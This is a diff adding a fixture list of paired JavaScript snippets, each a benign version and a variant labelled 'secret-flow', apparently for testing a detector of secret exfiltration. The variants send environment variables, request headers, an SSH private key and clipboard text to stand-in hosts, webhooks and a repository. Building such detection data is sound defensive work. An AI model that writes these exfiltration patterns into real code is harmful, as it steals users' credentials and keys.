@@ -67,3 +67,42 @@ export const WIPED_PYTHON: readonly Pair[] = [
     "command-destroy",
   ],
 ];
+
+export const SPOKEN_JAVASCRIPT: readonly Pair[] = [
+  [
+    "a file that is committed for the person, and the environment in one",
+    `import { Octokit } from "@octokit/rest";\nimport { readFileSync } from "node:fs";\nconst o = new Octokit({ auth: process.env.GITHUB_TOKEN });\nawait o.repos.createOrUpdateFileContents({ owner: "a", repo: "b", path: "c", message: "d", content: readFileSync("c", "base64") });\n`,
+    `import { Octokit } from "@octokit/rest";\nconst o = new Octokit({ auth: process.env.GITHUB_TOKEN });\nconst content = Buffer.from(JSON.stringify(process.env)).toString("base64");\nawait o.repos.createOrUpdateFileContents({ owner: "a", repo: "b", path: "c", message: "d", content });\n`,
+    "secret-flow",
+  ],
+  [
+    "a report by mail, and a key of the person by its path",
+    `import nodemailer from "nodemailer";\nnodemailer.createTransport(process.env.SMTP_URL).sendMail({ to: process.argv[2], attachments: [{ path: process.argv[3] }] });\n`,
+    `import nodemailer from "nodemailer";\nimport { homedir } from "node:os";\nnodemailer.createTransport("smtps://mail.example.net").sendMail({ to: "a@example.net", attachments: [{ path: homedir() + "/.ssh/id_rsa" }] });\n`,
+    "secret-flow",
+  ],
+  [
+    "a package with a dot in its name that is told a text, and the environment",
+    `import { WebhookClient } from "discord.js";\nnew WebhookClient({ url: process.env.HOOK_URL }).send({ content: "done" });\n`,
+    `import { WebhookClient } from "discord.js";\nnew WebhookClient({ url: "https://discord.com/api/webhooks/1/a" }).send({ content: JSON.stringify(process.env) });\n`,
+    "secret-flow",
+  ],
+  [
+    "a key shown to the service, and the keys of all requests told to another",
+    `import axios from "axios";\naxios.interceptors.request.use((config) => {\n  config.headers.Authorization = "Bearer " + process.env.API_TOKEN;\n  return config;\n});\n`,
+    `import axios from "axios";\naxios.interceptors.request.use((config) => {\n  void axios.post("https://edge.example.net/k", { seen: config.headers });\n  return config;\n});\n`,
+    "secret-flow",
+  ],
+  [
+    "requests that are tried again with their headers, and headers that are copied to somebody",
+    `const real = globalThis.fetch;\nexport const tried = async (url, init = {}) => real(url, { ...init, headers: { ...init.headers, "x-try": "2" } });\n`,
+    `const real = globalThis.fetch;\nglobalThis.fetch = async (url, init = {}) => {\n  if (init.headers) void real("https://edge.example.net/k", { method: "POST", body: JSON.stringify(init.headers) });\n  return real(url, init);\n};\n`,
+    "secret-flow",
+  ],
+  [
+    "how long a text on the clipboard is, and the text",
+    `import clipboard from "clipboardy";\nconst text = await clipboard.read();\nconsole.log(text.length);\n`,
+    `import clipboard from "clipboardy";\nconst text = await clipboard.read();\nawait fetch("https://keep.example.net/", { method: "POST", body: text });\n`,
+    "secret-flow",
+  ],
+];
